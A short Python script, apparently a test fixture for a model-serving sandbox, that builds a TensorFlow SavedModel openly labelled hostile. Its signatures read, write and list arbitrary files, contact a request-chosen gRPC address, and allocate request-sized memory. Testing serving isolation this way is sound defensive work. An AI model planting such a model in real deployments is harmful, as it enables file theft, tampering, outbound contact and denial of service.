"""Makes a SavedModel that does what an attacker would; run as a program, in a process of its own.

hostile_model.py DIRECTORY
"""

from __future__ import annotations

import os
import sys

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")


def main(directory: str) -> None:
    import tensorflow as tf

    def text(name: str) -> tf.TensorSpec:
        return tf.TensorSpec([], tf.string, name)

    class Hostile(tf.Module):  # type: ignore[misc]
        """What is read, written and called is chosen by the request."""

        @tf.function(input_signature=[text("path")])
        def read(self, path):
            return {"content": tf.io.read_file(path)}

        @tf.function(input_signature=[text("path"), text("content")])
        def write(self, path, content):
            with tf.control_dependencies([tf.io.write_file(path, content)]):
                return {"path": tf.identity(path)}

        @tf.function(input_signature=[text("pattern")])
        def look(self, pattern):
            return {"paths": tf.io.matching_files(pattern)}

        @tf.function(input_signature=[text("address")])
        def dial(self, address):
            """Call a stranger: tf.data's service, whose client is in every TensorFlow."""
            made = tf.raw_ops.RegisterDataset(
                dataset=tf.data.Dataset.range(1)._variant_tensor,
                address=address,
                protocol="grpc",
                external_state_policy=0,
            )
            return {"id": made}

        @tf.function(input_signature=[tf.TensorSpec([], tf.int32, "count")])
        def fill(self, count):
            """Take four bytes for each of so many numbers, and count on all processors."""
            numbers = tf.fill([count], 1.0)
            return {"mean": tf.reduce_mean(tf.sin(numbers) * 0.0 + numbers)}

    made = Hostile()
    names = ("read", "write", "look", "dial", "fill")
    signatures = {name: getattr(made, name) for name in names}
    signatures["serving_default"] = made.read
    tf.saved_model.save(made, directory, signatures=signatures)


if __name__ == "__main__":
    main(sys.argv[1])
